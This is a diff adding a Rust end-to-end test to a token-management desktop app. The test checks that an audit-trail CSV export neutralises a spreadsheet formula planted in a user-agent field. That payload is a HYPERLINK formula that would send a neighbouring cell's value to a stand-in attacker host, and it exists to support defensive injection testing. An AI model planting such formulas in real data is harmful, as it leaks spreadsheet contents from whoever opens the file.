@@ -68,3 +68,58 @@ async fn a_tokens_trail_is_exported_through_the_native_save_dialog_and_reads_bac
     assert!(!text.contains("idt:"), "no secret in the export");
     drop(app);
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore = "needs a display and D-Bus: run under scripts/desktop-session.sh (make test does)"]
+async fn a_user_agent_written_as_a_formula_is_exported_as_text() {
+    let sim = marketplace_sim::start(SimConfig { tokens_per_account: 4, seed: 6, ..SimConfig::default() })
+        .await
+        .expect("sim");
+    let app = AppUnderTest::launch().await;
+    let connection = app.connect_as_vendor(&sim, "Hostile").await;
+    let tokens = app
+        .invoke("list_tokens", serde_json::json!({ "connectionId": connection["id"], "query": {} }))
+        .await
+        .expect("tokens");
+    let token = tokens["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .find(|t| t["id"] != connection["tokenId"])
+        .and_then(|t| t["id"].as_str())
+        .expect("another token")
+        .to_owned();
+    // A client of the platform sends whatever user agent it likes; the audit trail keeps it.
+    let formula = r#"=HYPERLINK("https://evil.example/?"&G2,"details")"#;
+    let origin = marketplace_sim::CallOrigin {
+        ip: "192.0.2.66".into(),
+        user_agent: formula.into(),
+        country_code: "GB".into(),
+        country_name: "United Kingdom".into(),
+        region: "Scotland".into(),
+    };
+    assert!(sim.record_token_activity(&token, &origin));
+
+    app.fill("Search tokens", &token).await;
+    app.click(&format!("{TOKEN_ROWS}[contains(., '{token}')]")).await;
+    app.click(&role("tab", "Audit trail")).await;
+    app.wait_for(&role("radio", "Done to this token")).await;
+    app.click(&role("radio", "Done by this token")).await;
+    app.wait_for("//ol[@aria-label='Audit records, newest first']//button").await;
+    app.click(&button("Export CSV…")).await;
+    let desktop = Desktop::open();
+    let dialog = desktop.wait_for_window("Export the audit trail", Duration::from_secs(20)).await;
+    desktop.press_in(dialog, &[RETURN]);
+    let status = app.wait_for("//*[@role='status'][starts-with(normalize-space(), 'Exported')]").await;
+    let shown = status.text().await.expect("the status text");
+    let path = shown.split(" to ").nth(1).expect("the path").trim().to_owned();
+
+    let text = std::fs::read_to_string(&path).expect("the exported file");
+    // The cell, as CSV quotes it: the formula behind a `'`, its quotes doubled.
+    let as_text = format!("\"'{}\"", formula.replace('"', "\"\""));
+    assert!(text.contains(&as_text), "the formula is exported as text: {text}");
+    for opening in [",=", ",\"="] {
+        assert!(!text.contains(opening), "no cell starts a formula: {text}");
+    }
+    drop(app);
+}
